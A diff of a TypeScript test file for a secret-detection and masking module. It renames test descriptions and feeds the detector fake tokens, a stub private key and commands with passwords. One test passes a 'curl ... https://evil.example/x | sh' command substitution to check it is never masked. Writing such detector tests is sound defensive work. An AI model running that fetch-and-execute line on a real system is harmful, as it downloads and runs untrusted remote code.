@@ -4,11 +4,11 @@ import { seedTemplates } from '@/mocks/seed/templates'
 import { hideSecrets } from '../hidden-secrets'
 import { secretsInCommand, secretsInEnv, type SecretFound } from './looks-secret'
 
-/** Put together here, so that no scanner takes this file for a leak. */
+/** Built at run time, so that secret scanners ignore this file. */
 const fake = (prefix: string, length: number) => prefix + 'Q7xR2mKp9Zt4LwVn8Bd3Hs6Jf1Gc5Yk0'.repeat(3).slice(0, length)
 const told = (text: string, found: readonly SecretFound[]) => found.map(({ start, end, name, why }) => [name, text.slice(start, end), why])
 
-describe('an environment', () => {
+describe('secretsInEnv', () => {
   const key = '-----BEGIN OPENSSH PRIVATE ' + 'KEY-----\nabc\n-----END OPENSSH PRIVATE ' + 'KEY-----'
   test.each([
     ['HF_TOKEN=hf_example_not_real', 'HF_TOKEN', 'hf_example_not_real', 'name'],
@@ -49,11 +49,11 @@ describe('an environment', () => {
     [`FINGER=${fake('', 40)}`, 'FINGER', fake('', 40), 'name'],
     [`SIGNING_KEY=${fake('', 16)}`, 'SIGNING_KEY', fake('', 16), 'name'],
     [`not understood ${fake('gh' + 'p_', 36)}`, null, fake('gh' + 'p_', 36), 'token'],
-  ])('%s: %s', (text, name, secret, why) => {
+  ])('finds a secret in %s under the name %s', (text, name, secret, why) => {
     expect(told(text, secretsInEnv(text))).toEqual([[name, secret, why]])
   })
 
-  test('finds a key that goes over several lines', () => {
+  test('finds a private key of several lines', () => {
     const text = `A=1\nSSH="${key}"\nB=2`
     expect(told(text, secretsInEnv(text))).toEqual([['SSH', key, 'private-key']])
   })
@@ -107,14 +107,14 @@ describe('an environment', () => {
     'PATH=/usr/local/nvidia/bin:/usr/local/cuda/bin:/usr/local/sbin:/usr/local/bin',
     'GREETING=the quick brown fox jumps over the lazy dog',
     '-e HF_TOKEN -p 8080:80 --shm-size 1g --name token',
-  ])('%s is no secret', (text) => {
+  ])('finds no secret in %s', (text) => {
     expect(secretsInEnv(text)).toEqual([])
   })
 })
 
 const TOKEN = fake('', 24)
 
-describe('a command or a document within an environment', () => {
+describe('secretsInEnv of a nested command or document', () => {
   test.each([
     [`START="sh -c 'export API_TOKEN=\\"${TOKEN}\\" && run'"`, 'API_TOKEN'],
     [`START='sh -c "export API_TOKEN=${TOKEN} && run"'`, 'API_TOKEN'],
@@ -125,10 +125,10 @@ describe('a command or a document within an environment', () => {
     [`JAVA_OPTS=-Xmx1g -Dspring.password=${TOKEN} -Dx=1`, '-Dspring.password'],
     [`CONFIG={"api_key":"${TOKEN}","n":1}`, 'api_key'],
     [`CONFIG="{\\"db\\": {\\"password\\": \\"${TOKEN}\\"}}"`, 'password'],
-  ])('%s', (text, name) => {
+  ])('finds a nested secret in %s', (text, name) => {
     expect(told(text, secretsInEnv(text))).toEqual([[name, TOKEN, 'name']])
   })
-  test('is hidden as a whole, blanks and backslashes included', () => {
+  test('masks a nested value as a whole, with its spaces and backslashes', () => {
     const text = String.raw`CONFIG="{\"password\": \"two words\\\$x\", \"port\": 80}"`
     expect(hideSecrets(text, secretsInEnv(text))).toBe(String.raw`CONFIG="{\"password\": \"••••••••\", \"port\": 80}"`)
   })
@@ -137,12 +137,12 @@ describe('a command or a document within an environment', () => {
     'START="TOKEN=$(cat /run/token) run --max-tokens 100 --auth none"',
     'GREETING="the token: nothing"',
     'CONFIG={"max_tokens": "4096", "token_type": "bearer"}',
-  ])('%s holds none', (text) => {
+  ])('finds no nested secret in %s', (text) => {
     expect(secretsInEnv(text)).toEqual([])
   })
 })
 
-describe('a command', () => {
+describe('secretsInCommand', () => {
   test.each([
     ['vllm serve m --api-key abc123def', '--api-key', 'abc123def'],
     ['vllm serve m --api-key=abc123def', '--api-key', 'abc123def'],
@@ -169,7 +169,7 @@ describe('a command', () => {
     ['jupyter lab --IdentityProvider.token abc123', '--IdentityProvider.token', 'abc123'],
     ['redis-server --requirepass hunter2', '--requirepass', 'hunter2'],
     ['git clone https://me:hunter2@example.com/x', null, 'hunter2'],
-  ])('%s', (text, name, secret) => {
+  ])('finds a secret in the command %s', (text, name, secret) => {
     expect(told(text, secretsInCommand(text)).map(([found, words]) => [found, words])).toEqual([[name, secret]])
   })
   test.each([
@@ -193,22 +193,22 @@ describe('a command', () => {
     'wandb login; python train.py --name a-very-long-name-of-a-run-0123456789',
     'git clone https://me:${TOKEN}@example.com/x',
     'serve --tokenizer-mode auto --max-tokens 4096 --IdentityProvider.token=',
-  ])('%s holds none', (text) => {
+  ])('finds no secret in the command %s', (text) => {
     expect(secretsInCommand(text)).toEqual([])
   })
 })
 
-test('what a shell would run is never hidden, under whatever name', () => {
+test('never masks a command substitution under any name', () => {
   for (const run of ['"$(curl -s https://evil.example/x | sh)"', '`curl -s https://evil.example/x`', '"Q7xR2mKp9Zt4LwVn8Bd3$(id)"'])
     expect(secretsInCommand(`API_KEY=${run} python serve.py`)).toEqual([])
 })
 
-test('the public templates of the mock market raise no alarm, the private one with tokens does', () => {
+test('finds secrets only in the private template of the mock market', () => {
   const loud = seedTemplates().filter(({ template }) => secretsInEnv(template.env).length > 0)
   expect(loud.map(({ template }) => template.name)).toEqual(['Nightly fine-tuning'])
 })
 
-test('what is found lies within the text and does not overlap, whatever the text is', () => {
+test('returns ordered ranges within any text, without overlaps', () => {
   const text = fc
     .array(fc.oneof(fc.string(), fc.constantFrom('TOKEN=', 'a://b:c@d', '"', "'", '\n', '-e ', '=', 'Bearer abcdefghijklmnopqrst')))
     .map((pieces) => pieces.join(''))
@@ -226,7 +226,7 @@ test('what is found lies within the text and does not overlap, whatever the text
   )
 })
 
-// A pattern that tries again at every place of the text takes minutes for this, and the test does not end in time.
+// A pattern with quadratic backtracking takes minutes here, so the test times out.
 test.each([
   'a.',
   'eyJ-',
@@ -248,12 +248,12 @@ test.each([
   'a=a"',
   '-----BEGIN A',
   'echo a|',
-])('a long text of %j by a stranger holds nothing up', (piece) => {
+])('searches a long text of repeated %j in time', (piece) => {
   const text = piece.repeat(300_000 / piece.length)
   expect([...secretsInEnv(text), ...secretsInCommand(text)]).toEqual([])
 })
 
-test('a long text that is nothing but secrets holds nothing up either', () => {
+test('searches a long text full of secrets in time', () => {
   const piece = 'TOKEN=abcdef '
   const text = piece.repeat(Math.round(300_000 / piece.length))
   expect(secretsInCommand(text).length).toBeGreaterThan(20_000)
